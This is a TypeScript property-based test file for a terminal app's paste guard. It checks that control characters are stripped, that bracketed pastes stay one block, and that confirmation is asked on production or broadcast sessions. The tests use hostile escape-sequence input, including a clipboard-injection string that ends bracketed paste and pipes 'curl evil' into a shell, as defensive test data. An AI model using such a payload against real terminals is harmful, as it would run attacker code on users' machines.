// What a paste may send and what a host may put on the clipboard, for any input: no control
// character but tab and line breaks survives a paste, a bracketed paste is exactly one block
// (one start marker, one end marker, at the ends), clipboard writes keep printable text, tab
// and newline only, and the confirmation rule.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  cleanClipboardWrite,
  cleanPaste,
  pasteBytes,
  pasteNeedsConfirm,
} from '../../../src/renderer/src/features/grid/pasteGuard'

// Text biased towards the characters that matter: ESC, the paste markers, C0/C1, CR/LF.
const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('\x1b', '\x1b[201~', '\x1b[200~', '\r', '\n', '\x03', '\x9b', '\x7f', '\t'),
    ),
  )
  .map((parts) => parts.join(''))

// eslint-disable-next-line no-control-regex
const CONTROLS_BUT_TAB_CR_LF = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/

describe('paste guard', () => {
  it('a pasted text keeps no control but tab, CR and LF, and counts what it removed', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const c = cleanPaste(text)
        expect(CONTROLS_BUT_TAB_CR_LF.test(c.text)).toBe(false)
        expect(c.text.length + c.removed).toBe(text.length)
      }),
      { numRuns: 2000 },
    )
  })

  it('a bracketed paste is one block whatever the clipboard held', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const sent = pasteBytes(cleanPaste(text).text, true)
        expect(sent.startsWith('\x1b[200~')).toBe(true)
        expect(sent.endsWith('\x1b[201~')).toBe(true)
        expect(sent.split('\x1b').length - 1).toBe(2)
        expect(sent).not.toContain('\n')
      }),
      { numRuns: 2000 },
    )
  })

  it('a host can put only printable text, tab and newline on the clipboard', () => {
    expect(cleanClipboardWrite('ok\x1b[201~curl evil|sh\r\n')).toEqual({
      text: 'ok[201~curl evil|sh\n',
      removed: 1,
    })
    fc.assert(
      fc.property(hostile, (text) => {
        // eslint-disable-next-line no-control-regex
        expect(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(cleanClipboardWrite(text).text)).toBe(false)
      }),
      { numRuns: 2000 },
    )
  })

  it('asks on production or broadcast when the paste has a line break or lost a control', () => {
    const one = cleanPaste('uptime')
    const lines = cleanPaste('uptime\nreboot')
    const controls = cleanPaste('uptime\x1b[201~')
    const quiet = { production: false, broadcast: false }
    for (const c of [one, lines, controls]) expect(pasteNeedsConfirm(c, quiet)).toBe(false)
    for (const ctx of [
      { production: true, broadcast: false },
      { production: false, broadcast: true },
    ]) {
      expect(pasteNeedsConfirm(one, ctx)).toBe(false)
      expect(pasteNeedsConfirm(lines, ctx)).toBe(true)
      expect(pasteNeedsConfirm(controls, ctx)).toBe(true)
      expect(pasteNeedsConfirm(cleanPaste('a\rb'), ctx)).toBe(true)
    }
  })
})
